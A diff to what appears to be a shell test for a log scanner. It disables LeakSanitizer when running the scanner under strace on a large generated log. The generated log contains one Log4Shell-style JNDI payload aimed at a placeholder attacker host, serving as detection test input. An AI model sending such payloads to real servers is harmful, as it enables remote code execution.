@@ -159,7 +159,8 @@ sys.stdout.buffer.write(line * (200 * 1024 * 1024 // len(line)))
 sys.stdout.buffer.write(b"203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] \"GET /?q=${jndi:ldap://x.evil.example/a} HTTP/1.1\" 200 5\n")
 ' > "$D/big.txt"
     n=$(wc -l < "$D/big.txt")
-    run bash -c "cat '$D/big.txt' | TMPDIR='$D/tmp' timeout 60 strace -f -qq \
+    # LeakSanitizer cannot run under ptrace (strace): off for this run
+    run bash -c "cat '$D/big.txt' | TMPDIR='$D/tmp' ASAN_OPTIONS='${ASAN_OPTIONS:-}:detect_leaks=0' timeout 60 strace -f -qq \
         -e trace=openat -o '$D/strace' '$KENSA' logs --json --no-summary --threads 1 -"
     rm -f "$D/big.txt"
     [ "$status" -eq 1 ]
